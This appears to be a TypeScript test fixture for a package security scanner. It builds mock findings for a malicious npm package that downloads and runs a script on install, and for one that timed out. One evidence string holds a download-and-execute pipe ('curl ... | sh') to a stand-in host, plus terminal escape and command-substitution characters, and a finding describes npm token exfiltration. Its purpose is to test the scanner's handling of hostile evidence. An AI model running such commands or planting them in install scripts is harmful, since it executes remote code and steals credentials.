import type { Finding } from '../../core/finding.js';
import type { ScanResult } from '../../core/scan-result.js';
import { emptyResult } from './scan-result-fixture.js';

/** Evidence strings come from package code: the excerpt carries a terminal escape and a pipe. */
export const HOSTILE_EXCERPT = "curl -s https://payload.invalid/x | sh \u001b[2J`echo`";

export const maliciousBehavior = (): Finding => ({
  type: 'behavior',
  id: 'install-script-download-exec',
  aliases: ['credential-exfil-chain'],
  summary: 'Malicious code (score 9.8/10): postinstall downloads and runs a script',
  severity: 'critical',
  package: { name: 'fixture-stealer', version: '1.0.0' },
  line: 12,
  direct: true,
  devOnly: false,
  paths: [['acme-app', 'fixture-stealer@1.0.0']],
  pathsTruncated: false,
  remediation: { kind: 'remove', dependency: 'fixture-stealer', advice: 'its code behaves like malware.' },
  references: [],
  behavior: {
    verdict: 'malicious',
    score: 9.8,
    capabilities: ['network', 'process'],
    evidence: [
      {
        rule: 'install-script-download-exec',
        kind: 'threat',
        severity: 'critical',
        confidence: 'high',
        message: 'postinstall downloads and runs a script',
        file: 'package.json',
        line: 1,
        excerpt: HOSTILE_EXCERPT,
      },
      {
        rule: 'credential-exfil-chain',
        kind: 'threat',
        severity: 'critical',
        confidence: 'high',
        message: 'npm token flows into https.request().write',
        file: 'index.js',
        line: 6,
      },
    ],
    analyzer: '0.1.0',
    cached: false,
  },
});

export const timeLimitBehavior = (): Finding => ({
  type: 'behavior',
  id: 'analysis-time-limit',
  aliases: [],
  summary: 'Analysis stopped at the 10 s per-package time limit; the code was not fully checked',
  severity: 'medium',
  package: { name: 'fixture-slow', version: '2.0.0' },
  direct: false,
  devOnly: true,
  paths: [['acme-app', 'dev-tool@1.0.0', 'fixture-slow@2.0.0']],
  pathsTruncated: false,
  remediation: { kind: 'none', reason: 'inspect it alone (bulwark inspect)' },
  references: [],
  behavior: { problem: 'time-limit', capabilities: [], evidence: [], analyzer: '', cached: true },
});

/** A scan with analysis on: one malicious package, one that hit the time limit. */
export const behaviorResult = (): ScanResult => {
  const base = emptyResult();
  const findings = [maliciousBehavior(), timeLimitBehavior()];
  return {
    ...base,
    findings,
    summary: {
      ...base.summary,
      findings: 2,
      bySeverity: { ...base.summary.bySeverity, critical: 1, medium: 1 },
      failing: 1,
    },
    analysis: {
      analyzer: '0.1.0',
      rules: '0123456789abcdef',
      timeLimitMs: 10_000,
      packages: 5,
      analysed: 2,
      cached: 3,
      failed: 1,
      verdicts: { clean: 3, suspicious: 0, malicious: 1 },
      notAnalysed: [
        { name: 'acme-lib', version: '1.0.0', reason: 'local' },
        { name: 'from-git', version: '1.0.0', reason: 'git' },
      ],
      durationMs: 1234,
    },
  };
};
